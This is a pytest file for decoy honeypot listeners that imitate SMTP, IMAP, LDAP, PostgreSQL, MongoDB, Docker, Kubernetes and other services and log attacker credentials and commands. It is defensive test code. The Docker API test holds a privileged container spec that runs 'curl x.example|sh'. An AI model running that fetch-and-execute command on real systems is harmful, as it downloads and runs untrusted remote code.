"""decnet_listeners, protocol by protocol: each service runs as ``python3 -m decnet_listeners`` in a subprocess on
loopback (ports shifted by ``DECNET_PORT_OFFSET``) and is spoken to with plain sockets. Every test also checks
that SIGTERM stops the process cleanly within 2 s.

No Django, no Docker: run with ``pytest tests/images/test_listeners.py -p no:django``. Set
``DECNET_LISTENERS_PYTHON`` to run the listeners under another interpreter (the image ships Python 3.11).
"""

from __future__ import annotations

import base64
import contextlib
import importlib
import json
import os
import queue
import random
import re
import shutil
import signal
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

LISTENERS_DIR = Path(__file__).resolve().parents[2] / "images" / "listeners"
PYTHON = os.environ.get("DECNET_LISTENERS_PYTHON") or sys.executable
HOST = "127.0.0.1"
HAS_OPENSSL = shutil.which("openssl") is not None
Event = dict[str, Any]

# The package lives in the image's build context, not on the project's import path: load it from there.
sys.path.insert(0, str(LISTENERS_DIR))
listeners_package = importlib.import_module("decnet_listeners")
bson = importlib.import_module("decnet_listeners.bson")
ntlm = importlib.import_module("decnet_listeners.ntlm")
config = importlib.import_module("decnet_listeners.config")
events = importlib.import_module("decnet_listeners.events")


def _ports_free(tcp: tuple[int, ...], udp: tuple[int, ...]) -> bool:
    for kind, ports in ((socket.SOCK_STREAM, tcp), (socket.SOCK_DGRAM, udp)):
        for port in ports:
            with socket.socket(socket.AF_INET, kind) as probe:
                try:
                    probe.bind((HOST, port))
                except OSError:
                    return False
    return True


class ListenerProcess:
    """One listener subprocess with its event stream collected in the background."""

    def __init__(self, service: str, tcp: tuple[int, ...], udp: tuple[int, ...], config: dict[str, Any]) -> None:
        self.service = service
        for _ in range(50):
            self.offset = random.randrange(20000, 38000)
            if _ports_free(tuple(p + self.offset for p in tcp), tuple(p + self.offset for p in udp)):
                break
        env = {
            **os.environ,
            "PYTHONPATH": str(LISTENERS_DIR),
            "DECNET_SERVICE": service,
            "DECNET_DECKY": "decky-07",
            "DECNET_HOSTNAME": "srv07.corp.local",
            "DECNET_SERVICE_CONFIG": json.dumps(config),
            "DECNET_PORT_OFFSET": str(self.offset),
            "DECNET_BIND": HOST,
        }
        self.proc = subprocess.Popen(
            [PYTHON, "-m", "decnet_listeners"],
            env=env,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        self.events: list[Event] = []
        self.stderr: queue.Queue[str] = queue.Queue()
        self._changed = threading.Condition()
        threading.Thread(target=self._read_stdout, daemon=True).start()
        threading.Thread(target=self._read_stderr, daemon=True).start()
        self.stop_seconds: float | None = None

    def _read_stdout(self) -> None:
        assert self.proc.stdout is not None
        for line in self.proc.stdout:
            event = json.loads(line)
            with self._changed:
                self.events.append(event)
                self._changed.notify_all()

    def _read_stderr(self) -> None:
        assert self.proc.stderr is not None
        for line in self.proc.stderr:
            self.stderr.put(line)

    def wait_ready(self, timeout: float = 30.0) -> None:
        """Block until the process says it is listening."""
        deadline = time.monotonic() + timeout
        seen = []
        while time.monotonic() < deadline:
            try:
                line = self.stderr.get(timeout=0.2)
            except queue.Empty:
                if self.proc.poll() is not None:
                    break
                continue
            seen.append(line)
            if "listening on" in line:
                return
        raise AssertionError(f"{self.service} did not start: {''.join(seen)}")

    def port(self, standard: int) -> int:
        return standard + self.offset

    def wait_event(self, predicate: Callable[[Event], bool], timeout: float = 5.0) -> Event:
        """The first event matching ``predicate`` (waiting for it if needed)."""
        deadline = time.monotonic() + timeout
        with self._changed:
            while True:
                for event in self.events:
                    if predicate(event):
                        return event
                remaining = deadline - time.monotonic()
                if remaining <= 0:
                    raise AssertionError(f"no matching event in {json.dumps(self.events, indent=1)}")
                self._changed.wait(remaining)

    def stop(self) -> None:
        """SIGTERM and time the exit."""
        started = time.monotonic()
        self.proc.send_signal(signal.SIGTERM)
        try:
            self.proc.wait(timeout=5)
        finally:
            self.stop_seconds = time.monotonic() - started
            if self.proc.poll() is None:
                self.proc.kill()
                self.proc.wait()


@pytest.fixture
def listener() -> Iterator[Callable[..., ListenerProcess]]:
    """Start listeners; at teardown each must exit 0 within 2 s of SIGTERM."""
    started: list[ListenerProcess] = []

    def start(
        service: str, tcp: tuple[int, ...] = (), udp: tuple[int, ...] = (), config: dict[str, Any] | None = None
    ) -> ListenerProcess:
        process = ListenerProcess(service, tcp, udp, config or {})
        started.append(process)
        process.wait_ready()
        return process

    yield start
    for process in started:
        process.stop()
    for process in started:
        assert process.proc.returncode == 0, f"{process.service} exited with {process.proc.returncode}"
        assert process.stop_seconds is not None
        assert process.stop_seconds < 2.0, f"{process.service} took {process.stop_seconds:.2f}s to stop"


def connect(port: int, timeout: float = 5.0) -> socket.socket:
    sock = socket.create_connection((HOST, port), timeout=timeout)
    sock.settimeout(timeout)
    return sock


def recv_until(sock: socket.socket, marker: bytes, limit: int = 1 << 20) -> bytes:
    data = b""
    while marker not in data and len(data) < limit:
        chunk = sock.recv(65536)
        if not chunk:
            break
        data += chunk
    return data


def recv_exact(sock: socket.socket, size: int) -> bytes:
    data = b""
    while len(data) < size:
        chunk = sock.recv(size - len(data))
        if not chunk:
            raise AssertionError(f"connection closed after {len(data)} of {size} bytes")
        data += chunk
    return data


def line_reply(sock: socket.socket, command: bytes) -> bytes:
    """Send a CRLF line and read one reply line."""
    sock.sendall(command + b"\r\n")
    return recv_until(sock, b"\r\n")


def smtp_reply(sock: socket.socket, command: bytes | None = None) -> bytes:
    """Send an SMTP command (if any) and read a complete, possibly multi-line, reply."""
    if command is not None:
        sock.sendall(command + b"\r\n")
    data = b""
    while not re.search(rb"(?:^|\r\n)\d{3} [^\r\n]*\r\n$", data):
        chunk = sock.recv(65536)
        if not chunk:
            break
        data += chunk
    return data


def is_auth(**fields: Any) -> Callable[[Event], bool]:
    return lambda e: e["event"] == "auth" and all(e.get(k) == v for k, v in fields.items())


def test_every_catalogue_listener_service_is_registered() -> None:
    catalogue = Path(__file__).resolve().parents[2] / "deckies" / "catalogue" / "images.py"
    slugs = set(re.findall(r'"(\w+)": "listeners"', catalogue.read_text()))
    assert slugs <= set(listeners_package.SERVICES)


def test_unknown_service_exits_with_an_error() -> None:
    env = {**os.environ, "PYTHONPATH": str(LISTENERS_DIR), "DECNET_SERVICE": "gopher"}
    result = subprocess.run([PYTHON, "-m", "decnet_listeners"], env=env, capture_output=True, text=True, timeout=20)
    assert result.returncode == 2
    assert "unknown DECNET_SERVICE" in result.stderr


def test_settings_defaults_and_bad_config() -> None:
    settings = config.load_settings(
        {"DECNET_SERVICE": "smtp", "DECNET_HOSTNAME": "mx1.acme.test", "DECNET_SERVICE_CONFIG": "{"}
    )
    assert settings.options == {}
    assert settings.decky == "mx1.acme.test"
    assert settings.domain == "acme.test"
    assert settings.port(25) == 25
    assert settings.bind == "0.0.0.0"
    tuned = config.load_settings(
        {"DECNET_SERVICE_CONFIG": '{"domain": "Example.ORG", "x": "yes", "n": "7"}', "DECNET_PORT_OFFSET": "100"}
    )
    assert tuned.domain == "example.org"
    assert tuned.flag("x", False) is True
    assert tuned.integer("n", 1) == 7
    assert tuned.integer("missing", 3) == 3
    assert tuned.port(25) == 125


def test_events_are_bounded_json_lines() -> None:
    lines: list[str] = []

    class Sink:
        def write(self, text: str) -> None:
            lines.append(text)

        def flush(self) -> None:
            pass

    log = events.EventLog("smtp", "decky-01", Sink())
    log.emit("auth", src_ip="10.0.0.9", src_port=4444, dst_port=25, username="x" * 10_000, blob=b"\xff\x00a")
    event = json.loads(lines[0])
    assert lines[0].endswith("\n")
    assert event["event"] == "auth"
    assert event["service"] == "smtp"
    assert event["decky"] == "decky-01"
    assert event["ts"].endswith("Z")
    assert len(event["username"]) == events.MAX_TEXT
    assert event["blob"] == "\ufffd\x00a"
    assert events.clean({"k": list(range(500))})["k"][-1] == 63


def test_bson_round_trip() -> None:
    document = {"a": 1, "b": bson.Int64(2), "c": "text", "d": [1.5, True, None], "e": {"f": b"\x01"}}
    assert bson.decode(bson.encode(document)) == {**document, "d": [1.5, True, None]}
    with pytest.raises(bson.BsonError):
        bson.decode(b"\x05\x00\x00\x00\x01")


# ---- SMTP -----------------------------------------------------------------------------------------------------


def test_smtp_postfix_dialogue_captures_credentials_and_mail(listener: Callable[..., ListenerProcess]) -> None:
    proc = listener("smtp", tcp=(25, 587))
    with connect(proc.port(25)) as sock:
        assert smtp_reply(sock) == b"220 srv07.corp.local ESMTP Postfix (Debian/GNU)\r\n"
        ehlo = smtp_reply(sock, b"EHLO attacker.example")
        assert ehlo.startswith(b"250-srv07.corp.local\r\n")
        assert b"250-AUTH PLAIN LOGIN\r\n" in ehlo
        plain = base64.b64encode(b"\x00admin\x00hunter2")
        assert smtp_reply(sock, b"AUTH PLAIN " + plain).startswith(b"535 5.7.8")
        assert smtp_reply(sock, b"AUTH LOGIN") == b"334 VXNlcm5hbWU6\r\n"
        assert smtp_reply(sock, base64.b64encode(b"postmaster")) == b"334 UGFzc3dvcmQ6\r\n"
        assert smtp_reply(sock, base64.b64encode(b"s3cret")).startswith(b"535 ")
        assert smtp_reply(sock, b"MAIL FROM:<spam@evil.example>") == b"250 2.1.0 Ok\r\n"
        assert smtp_reply(sock, b"RCPT TO:<victim@other.example>").startswith(b"454 4.7.1 <victim@other.example>")
        assert smtp_reply(sock, b"RCPT TO:<ceo@corp.local>") == b"250 2.1.5 Ok\r\n"
        assert smtp_reply(sock, b"DATA").startswith(b"354 ")
        assert smtp_reply(sock, b"Subject: invoice\r\n\r\nplease pay\r\n..leading dot\r\n.").startswith(
            b"250 2.0.0 Ok: queued as "
        )
        assert smtp_reply(sock, b"QUIT") == b"221 2.0.0 Bye\r\n"
    proc.wait_event(is_auth(mechanism="PLAIN", username="admin", password="hunter2"))
    proc.wait_event(is_auth(mechanism="LOGIN", username="postmaster", password="s3cret"))
    proc.wait_event(lambda e: e.get("rcpt_to") == "victim@other.example" and e.get("accepted") is False)
    data = proc.wait_event(lambda e: e.get("command") == "DATA")
    assert data["subject"] == "invoice"
    assert data["rcpt_to"] == ["ceo@corp.local"]
    assert ".leading dot" in data["body"]
    connect_event = proc.wait_event(lambda e: e["event"] == "connect")
    assert connect_event["src_ip"] == HOST
    assert connect_event["dst_port"] == proc.port(25)
    assert connect_event["decky"] == "decky-07"
    proc.wait_event(lambda e: e["event"] == "disconnect")


def test_smtp_relay_accepts_foreign_recipients(listener: Callable[..., ListenerProcess]) -> None:
    proc = listener("smtp_relay", tcp=(25, 587), config={"mta": "exim"})
    with connect(proc.port(587)) as sock:
        assert re.match(rb"220 srv07\.corp\.local ESMTP Exim 4\.96 \w{3}, ", smtp_reply(sock))
        assert smtp_reply(sock, b"HELO x").startswith(b"250 ")
        smtp_reply(sock, b"MAIL FROM:<a@b.example>")
        assert smtp_reply(sock, b"RCPT TO:<target@gmail.example>") == b"250 Accepted\r\n"
        smtp_reply(sock, b"DATA")
        assert smtp_reply(sock, b"hello\r\n.").startswith(b"250 OK id=")
    event = proc.wait_event(lambda e: e.get("command") == "DATA")
    assert event["relay"] is True
    assert event["service"] == "smtp_relay"


def test_smtp_banner_override_and_line_flood(listener: Callable[..., ListenerProcess]) -> None:
    proc = listener("smtp", tcp=(25, 587), config={"banner": "{hostname} Microsoft ESMTP MAIL Service ready"})
    with connect(proc.port(25)) as sock:
        assert smtp_reply(sock) == b"220 srv07.corp.local Microsoft ESMTP MAIL Service ready\r\n"
        sock.sendall(b"A" * 100_000)
        reply = b""
        with contextlib.suppress(ConnectionResetError):
            reply = recv_until(sock, b"421 ")
            while chunk := sock.recv(65536):
                reply += chunk
        assert reply.count(b"502 5.5.2 Error: command not recognized\r\n") <= 20
    with connect(proc.port(25)) as sock:
        assert smtp_reply(sock).startswith(b"220 ")
    floods = [e for e in proc.events if e.get("command", "").startswith("AAAA")]
    assert 1 <= len(floods) <= 20
    assert max(len(e["command"]) for e in floods) <= 2048


# ---- IMAP / POP3 ----------------------------------------------------------------------------------------------


def test_imap_dovecot_login_capture(listener: Callable[..., ListenerProcess]) -> None:
    proc = listener("imap", tcp=(143, 993))
    with connect(proc.port(143)) as sock:
        greeting = recv_until(sock, b"\r\n")
        assert re.match(rb"^\* OK \[CAPABILITY IMAP4rev1 [^\]]+\] Dovecot \(Debian\) ready\.\r\n$", greeting)
        assert b"AUTH=PLAIN" in greeting
        assert (
            line_reply(sock, b'a1 LOGIN "bob" "pa ss\\"word"')
            == b"a1 NO [AUTHENTICATIONFAILED] Authentication failed.\r\n"
        )
        sock.sendall(b"a2 LOGIN {5}\r\n")
        assert recv_until(sock, b"\r\n") == b"+ OK\r\n"
        sock.sendall(b"alice {4+}\r\nw0rd\r\n")
        assert recv_until(sock, b"\r\n").startswith(b"a2 NO [AUTHENTICATIONFAILED]")
        sock.sendall(b"a3 AUTHENTICATE PLAIN " + base64.b64encode(b"\x00carol\x00pw3") + b"\r\n")
        assert recv_until(sock, b"\r\n").startswith(b"a3 NO ")
        caps = recv_until(line_send(sock, b"a4 CAPABILITY"), b"a4 OK")
        assert caps.startswith(b"* CAPABILITY IMAP4rev1")
        assert line_reply(sock, b"a5 SELECT INBOX") == b"a5 BAD Error in IMAP command received by server.\r\n"
        assert (
            recv_until(line_send(sock, b"a6 LOGOUT"), b"a6 OK") == b"* BYE Logging out\r\na6 OK Logout completed.\r\n"
        )
    proc.wait_event(is_auth(username="bob", password='pa ss"word'))
    proc.wait_event(is_auth(username="alice", password="w0rd"))
    proc.wait_event(is_auth(mechanism="PLAIN", username="carol", password="pw3"))


def line_send(sock: socket.socket, command: bytes) -> socket.socket:
    sock.sendall(command + b"\r\n")
    return sock


@pytest.mark.skipif(not HAS_OPENSSL, reason="needs the openssl binary for a certificate")
def test_imaps_speaks_tls(listener: Callable[..., ListenerProcess]) -> None:
    proc = listener("imap", tcp=(143, 993))
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    with connect(proc.port(993)) as raw, context.wrap_socket(raw) as sock:
        assert b"Dovecot (Debian) ready." in recv_until(sock, b"\r\n")
        assert b"STARTTLS" not in line_reply(sock, b"t1 CAPABILITY")
        sock.sendall(b"t2 LOGIN tls-user tls-pass\r\n")
        recv_until(sock, b"t2 NO")
    proc.wait_event(is_auth(username="tls-user", password="tls-pass"))


def test_pop3_dovecot_user_pass(listener: Callable[..., ListenerProcess]) -> None:
    proc = listener("pop3", tcp=(110, 995))
    with connect(proc.port(110)) as sock:
        assert recv_until(sock, b"\r\n") == b"+OK Dovecot (Debian) ready.\r\n"
        capa = recv_until(line_send(sock, b"CAPA"), b"\r\n.\r\n")
        assert capa.startswith(b"+OK\r\nCAPA\r\n")
        assert b"\r\nUSER\r\n" in capa
        assert line_reply(sock, b"USER root") == b"+OK\r\n"
        assert line_reply(sock, b"PASS toor") == b"-ERR [AUTH] Authentication failed.\r\n"
        assert line_reply(sock, b"STAT") == b"-ERR Unknown command.\r\n"
        assert line_reply(sock, b"QUIT") == b"+OK Logging out.\r\n"
    proc.wait_event(is_auth(mechanism="USER", username="root", password="toor"))


# ---- LDAP -----------------------------------------------------------------------------------------------------

#: nmap's Active Directory match rule for the reply to its LDAPSearchReq probe (a rootDSE search).
NMAP_AD_MATCH = re.compile(
    rb"^0\x84\0\0..\x02\x01.*dsServiceName1\x84\0\0\0.\x04.CN=NTDS\x20Settings,CN=([^,]+),CN=Servers,"
    rb"CN=([^,]+),CN=Sites,CN=Configuration,DC=([^,]+),DC=([^,]+)0\x84\0",
    re.DOTALL,
)


def ldap_message(message_id: int, operation: bytes) -> bytes:
    body = bytes([0x02, 0x01, message_id]) + operation
    return bytes([0x30, len(body)]) + body


def ldap_read(sock: socket.socket) -> bytes:
    head = recv_exact(sock, 2)
    if head[1] & 0x80:
        extra = recv_exact(sock, head[1] & 0x7F)
        return head + extra + recv_exact(sock, int.from_bytes(extra, "big"))
    return head + recv_exact(sock, head[1])


def test_ldap_rootdse_is_active_directory_and_binds_are_logged(listener: Callable[..., ListenerProcess]) -> None:
    proc = listener("ldap", tcp=(389, 636))
    probe = (
        b"\x30\x84\x00\x00\x00\x2d\x02\x01\x07\x63\x84\x00\x00\x00\x24\x04\x00\x0a\x01\x00\x0a\x01\x00\x02\x01\x00"
        b"\x02\x01\x64\x01\x01\x00\x87\x0b\x6f\x62\x6a\x65\x63\x74\x43\x6c\x61\x73\x73\x30\x84\x00\x00\x00\x00"
    )
    with connect(proc.port(389)) as sock:
        sock.sendall(probe)
        entry = ldap_read(sock)
        match = NMAP_AD_MATCH.match(entry)
        assert match, entry
        assert match.groups() == (b"SRV07", b"Default-First-Site-Name", b"corp", b"local")
        assert b"namingContexts" in entry
        assert b"supportedLDAPVersion" in entry
        assert ldap_read(sock).endswith(b"\x02\x01\x07\x65\x84\x00\x00\x00\x07\x0a\x01\x00\x04\x00\x04\x00")
        dn, password = b"cn=admin,dc=corp,dc=local", b"P@ssw0rd"
        bind = bytes([0x02, 0x01, 0x03, 0x04, len(dn)]) + dn + bytes([0x80, len(password)]) + password
        sock.sendall(ldap_message(2, bytes([0x60, len(bind)]) + bind))
        response = ldap_read(sock)
        assert b"\x61\x84" in response
        assert b"\x0a\x01\x31" in response  # invalidCredentials (49)
        assert b"data 52e" in response
        anonymous = b"\x02\x01\x03\x04\x00\x80\x00"
        sock.sendall(ldap_message(3, bytes([0x60, len(anonymous)]) + anonymous))
        assert b"\x0a\x01\x00" in ldap_read(sock)
        search = (
            b"\x04\x10dc=corp,dc=local\x0a\x01\x02\x0a\x01\x00\x02\x01\x00\x02\x01\x00\x01\x01\x00\x87\x02cn\x30\x00"
        )
        sock.sendall(ldap_message(4, bytes([0x63, len(search)]) + search))
        assert b"000004DC" in ldap_read(sock)
    proc.wait_event(is_auth(mechanism="simple", username="cn=admin,dc=corp,dc=local", password="P@ssw0rd"))
    proc.wait_event(lambda e: e.get("base") == "dc=corp,dc=local" and e.get("filter") == "(cn=*)")


# ---- PostgreSQL ----------------------------------------------------------------------------------------------


def test_postgres_password_capture(listener: Callable[..., ListenerProcess]) -> None:
    proc = listener("postgres", tcp=(5432,))
    with connect(proc.port(5432)) as sock:
        sock.sendall(struct.pack("!II", 8, 80877103))
        assert recv_exact(sock, 1) == b"N"
        params = b"user\x00dbadmin\x00database\x00prod\x00application_name\x00psql\x00\x00"
        sock.sendall(struct.pack("!II", 8 + len(params), 196608) + params)
        assert recv_exact(sock, 9) == b"R" + struct.pack("!II", 8, 3)
        sock.sendall(b"p" + struct.pack("!I", 4 + 9) + b"letmein!\x00")
        error = recv_until(sock, b"\x00\x00")
        assert error.startswith(b"E")
        assert b"SFATAL\x00" in error
        assert b"C28P01\x00" in error
        assert b'Mpassword authentication failed for user "dbadmin"\x00' in error
    event = proc.wait_event(is_auth(username="dbadmin", password="letmein!"))
    assert event["database"] == "prod"


def test_postgres_version_fingerprint_matches_nmap(listener: Callable[..., ListenerProcess]) -> None:
    proc = listener("postgres", tcp=(5432,))
    smb_probe = b"\x00\x00\x00\xa4\xff\x53\x4d\x42\x72" + b"\x00" * 160
    with connect(proc.port(5432)) as sock:
        sock.sendall(smb_probe)
        reply = recv_until(sock, b"\x00\x00")
    pattern = (
        rb"^E\0\0\0.S[^\0]+\0VFATAL\0C0A000\0M.*?65363\.19778.*\0Fpostmaster\.c\0L2194\0RProcessStartupPacket\0\0$"
    )
    assert re.match(pattern, reply, re.DOTALL), reply


# ---- MongoDB --------------------------------------------------------------------------------------------------


def mongo_read(sock: socket.socket) -> tuple[int, bytes]:
    length, _, _, opcode = struct.unpack("<iiii", recv_exact(sock, 16))
    return opcode, recv_exact(sock, length - 16)


def mongo_msg(document: dict[str, Any], request_id: int) -> bytes:
    payload = struct.pack("<I", 0) + b"\x00" + bson.encode(document)
    return struct.pack("<iiii", 16 + len(payload), request_id, 0, 2013) + payload


def test_mongodb_handshake_and_commands(listener: Callable[..., ListenerProcess]) -> None:
    proc = listener("mongodb", tcp=(27017,))
    nmap_probe = (
        b"\x41\0\0\0\x3a\x30\0\0\xff\xff\xff\xff\xd4\x07\0\0\0\0\0\0test.$cmd\0\0\0\0\0\xff\xff\xff\xff"
        b"\x1b\0\0\0\x01serverStatus\0\0\0\0\0\0\0\xf0\x3f\0"
    )
    with connect(proc.port(27017)) as sock:
        sock.sendall(nmap_probe)
        opcode, body = mongo_read(sock)
        assert opcode == 1
        version = re.match(rb"^.*version.....([\.\d]+)", body, re.DOTALL)
        assert version
        assert version.group(1) == b"7.0.14"
        sock.sendall(mongo_msg({"hello": 1, "helloOk": True, "$db": "admin"}, 2))
        opcode, body = mongo_read(sock)
        assert opcode == 2013
        hello = bson.decode(body[5:])
        assert hello["isWritablePrimary"] is True
        assert hello["maxWireVersion"] == 21
        assert hello["ok"] == 1.0
        sock.sendall(mongo_msg({"insert": "README", "documents": [{"note": "pay 0.1 BTC"}], "$db": "shop"}, 3))
        assert bson.decode(mongo_read(sock)[1][5:]) == {"n": 1, "ok": 1.0}
        sock.sendall(mongo_msg({"listDatabases": 1, "$db": "admin"}, 4))
        names = [d["name"] for d in bson.decode(mongo_read(sock)[1][5:])["databases"]]
        assert names == ["admin", "config", "local"]
    event = proc.wait_event(lambda e: e.get("command") == "insert")
    assert event["database"] == "shop"
    assert event["document"]["documents"] == [{"note": "pay 0.1 BTC"}]


# ---- HTTP APIs ------------------------------------------------------------------------------------------------


def http(port: int, request: bytes, use_tls: bool = False) -> bytes:
    with connect(port) as raw:
        sock: socket.socket = raw
        if use_tls:
            context = ssl.create_default_context()
            context.check_hostname = False
            context.verify_mode = ssl.CERT_NONE
            sock = context.wrap_socket(raw)
        sock.sendall(request)
        data = b""
        while chunk := sock.recv(65536):
            data += chunk
        return data


def test_elasticsearch_banner_matches_nmap(listener: Callable[..., ListenerProcess]) -> None:
    proc = listener("elasticsearch", tcp=(9200,))
    reply = http(proc.port(9200), b"GET / HTTP/1.0\r\n\r\n")
    pattern = (
        rb"^HTTP/1\.0 \d\d\d [^\r\n]+\r\n[Cc]ontent-[Tt]ype: application/json; charset=UTF-8\r\n[Cc]ontent-[Ll]ength: "
        rb'\d+\r\n\r\n{.*?"name" : "([^"]+)",\n  "cluster_name" : "([^"]+)",(?:\n  "cluster_uuid" : "[^"]*",)?\n  '
        rb'"version" : {\n    "number" : "([\w._-]+)",.*"lucene_version" : "([^"]+)"'
    )
    match = re.match(pattern, reply, re.DOTALL)
    assert match, reply
    assert match.groups() == (b"srv07", b"elasticsearch", b"7.10.2", b"8.7.0")
    head, _, body = reply.partition(b"\r\n\r\n")
    length = re.search(rb"content-length: (\d+)", head)
    assert length
    assert int(length.group(1)) == len(body)
    indices = http(proc.port(9200), b"GET /_cat/indices?v HTTP/1.1\r\nConnection: close\r\n\r\n")
    assert b"health status index" in indices
    assert b"customers" in indices
    auth = base64.b64encode(b"elastic:changeme")
    created = http(
        proc.port(9200),
        b"PUT /pwned HTTP/1.1\r\nAuthorization: Basic "
        + auth
        + b"\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}",
    )
    assert b'"acknowledged":true' in created
    proc.wait_event(lambda e: e["event"] == "request" and e.get("method") == "PUT" and e.get("path") == "/pwned")
    proc.wait_event(is_auth(mechanism="basic", username="elastic", password="changeme"))


def test_docker_api_looks_like_an_exposed_daemon(listener: Callable[..., ListenerProcess]) -> None:
    proc = listener("docker_api", tcp=(2375, 2376))
    options = http(proc.port(2375), b"OPTIONS / HTTP/1.0\r\n\r\n")
    assert re.match(
        rb"^HTTP/1\.0 200 OK\r\nApi-Version: ([\d.]+)\r\nDocker-Experimental: false\r\nOstype: (.+)\r\n"
        rb"Server: Docker/(\d[\w.-]*) \(.*\)\r\nDate: .*\r\nContent-Length: 0\r\n\r\n",
        options,
    ), options
    assert http(proc.port(2375), b"GET /_ping HTTP/1.0\r\n\r\n").endswith(b"\r\n\r\nOK")
    version = http(proc.port(2375), b"GET /v1.43/version HTTP/1.0\r\n\r\n")
    assert json.loads(version.partition(b"\r\n\r\n")[2])["ApiVersion"] == "1.43"
    assert http(proc.port(2375), b"GET /containers/json HTTP/1.0\r\n\r\n").endswith(b"\r\n\r\n[]\n")
    spec = json.dumps({"Image": "alpine", "Cmd": ["sh", "-c", "curl x.example|sh"], "HostConfig": {"Privileged": True}})
    created = http(
        proc.port(2375),
        b"POST /v1.43/containers/create HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nConnection: close\r\n"
        + f"Content-Length: {len(spec)}\r\n\r\n{spec}".encode(),
    )
    assert created.startswith(b"HTTP/1.1 201 Created")
    assert len(json.loads(created.partition(b"\r\n\r\n")[2])["Id"]) == 64
    event = proc.wait_event(lambda e: e.get("command") == "container create")
    assert event["image"] == "alpine"
    assert event["cmd"] == ["sh", "-c", "curl x.example|sh"]
    assert event["privileged"] is True
    missing = http(proc.port(2375), b"GET /nope HTTP/1.0\r\n\r\n")
    assert missing.endswith(b'\r\nContent-Length: 29\r\n\r\n{"message":"page not found"}\n')


def test_kubernetes_api(listener: Callable[..., ListenerProcess]) -> None:
    proc = listener("k8s", tcp=(6443, 8080))
    version = http(proc.port(8080), b"GET /version HTTP/1.1\r\nConnection: close\r\n\r\n")
    assert json.loads(version.partition(b"\r\n\r\n")[2])["gitVersion"] == "v1.28.4"
    pods = http(proc.port(8080), b"GET /api/v1/namespaces/default/pods HTTP/1.0\r\n\r\n")
    assert json.loads(pods.partition(b"\r\n\r\n")[2])["kind"] == "PodList"
    if HAS_OPENSSL:
        denied = http(proc.port(6443), b"GET /api/v1/secrets HTTP/1.0\r\n\r\n", use_tls=True)
        status = json.loads(denied.partition(b"\r\n\r\n")[2])
        assert status["code"] == 403
        assert status["message"].startswith('secrets is forbidden: User "system:anonymous" cannot list')
        token = http(proc.port(6443), b"GET /api HTTP/1.0\r\nAuthorization: Bearer eyJstolen\r\n\r\n", use_tls=True)
        assert token.startswith(b"HTTP/1.0 401 Unauthorized")
        proc.wait_event(is_auth(mechanism="bearer", token="eyJstolen"))


# ---- MQTT -----------------------------------------------------------------------------------------------------


def mqtt_string(text: str) -> bytes:
    return struct.pack("!H", len(text)) + text.encode()


def test_mqtt_connect_and_subscribe(listener: Callable[..., ListenerProcess]) -> None:
    proc = listener("mqtt", tcp=(1883,))
    body = mqtt_string("MQTT") + bytes([4, 0xC2]) + struct.pack("!H", 60)
    body += mqtt_string("sensor-42") + mqtt_string("iot") + mqtt_string("iot-pass")
    with connect(proc.port(1883)) as sock:
        sock.sendall(bytes([0x10, len(body)]) + body)
        assert recv_exact(sock, 4) == b"\x20\x02\x00\x00"
        subscribe = struct.pack("!H", 7) + mqtt_string("$SYS/#") + b"\x00"
        sock.sendall(bytes([0x82, len(subscribe)]) + subscribe)
        assert recv_exact(sock, 5) == b"\x90\x03\x00\x07\x00"
        published = recv_until(sock, b"mosquitto version")
        assert b"$SYS/broker/version" in published
        publish = mqtt_string("plant/valve") + b"OPEN"
        sock.sendall(bytes([0x30, len(publish)]) + publish)
        sock.sendall(b"\xc0\x00")
        assert recv_until(sock, b"\xd0\x00").endswith(b"\xd0\x00")
    event = proc.wait_event(is_auth(client_id="sensor-42", username="iot", password="iot-pass"))
    assert event["protocol_level"] == 4
    proc.wait_event(lambda e: e.get("topic") == "plant/valve" and e.get("payload") == "OPEN")


# ---- DNS / LLMNR ----------------------------------------------------------------------------------------------


def dns_query(name: str, qtype: int, qclass: int = 1, ident: int = 0x1234) -> bytes:
    question = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\x00"
    return struct.pack("!6H", ident, 0x0100, 1, 0, 0, 0) + question + struct.pack("!HH", qtype, qclass)


def udp_exchange(port: int, payload: bytes, timeout: float = 3.0) -> bytes | None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(timeout)
        sock.sendto(payload, (HOST, port))
        try:
            return sock.recvfrom(65535)[0]
        except TimeoutError:
            return None


def test_dns_authoritative_answers(listener: Callable[..., ListenerProcess]) -> None:
    proc = listener(
        "dns", tcp=(53,), udp=(53,), config={"domain": "acme.test", "extra_records": "vpn 300 IN A 10.9.8.7"}
    )
    port = proc.port(53)
    reply = udp_exchange(port, dns_query("vpn.acme.test", 1))
    assert reply is not None
    ident, flags, qd, an = struct.unpack_from("!4H", reply)
    assert (ident, flags & 0x8000, flags & 0x0400, flags & 0xF, qd, an) == (0x1234, 0x8000, 0x0400, 0, 1, 1)
    assert reply.endswith(bytes([10, 9, 8, 7]))
    www = udp_exchange(port, dns_query("www.acme.test", 1))
    assert www is not None
    assert struct.unpack_from("!H", www, 6)[0] == 1
    missing = udp_exchange(port, dns_query("nothere.acme.test", 1))
    assert missing is not None
    assert struct.unpack_from("!H", missing, 2)[0] & 0xF == 3
    assert struct.unpack_from("!H", missing, 8)[0] == 1  # SOA in authority
    foreign = udp_exchange(port, dns_query("example.com", 1))
    assert foreign is not None
    assert struct.unpack_from("!H", foreign, 2)[0] & 0xF == 5
    version = udp_exchange(port, b"\0\x06\x01\0\0\x01\0\0\0\0\0\0\x07version\x04bind\0\0\x10\0\x03")
    assert version is not None
    assert re.search(rb"\x07version\x04bind\0\0\x10\0\x03\xc0\x0c\0\x10\0\x03.{7}(\d[-\w.+~]*?)-[Dd]ebian", version)
    with connect(port) as sock:
        query = dns_query("mail.acme.test", 1, ident=7)
        sock.sendall(struct.pack("!H", len(query)) + query)
        (length,) = struct.unpack("!H", recv_exact(sock, 2))
        answer = recv_exact(sock, length)
        assert struct.unpack_from("!HH", answer, 0)[0] == 7
        assert struct.unpack_from("!H", answer, 6)[0] == 1
    event = proc.wait_event(lambda e: e.get("query") == "vpn.acme.test")
    assert (event["qtype"], event["transport"], event["rcode"]) == ("A", "udp", 0)
    proc.wait_event(lambda e: e.get("query") == "mail.acme.test" and e.get("transport") == "tcp")


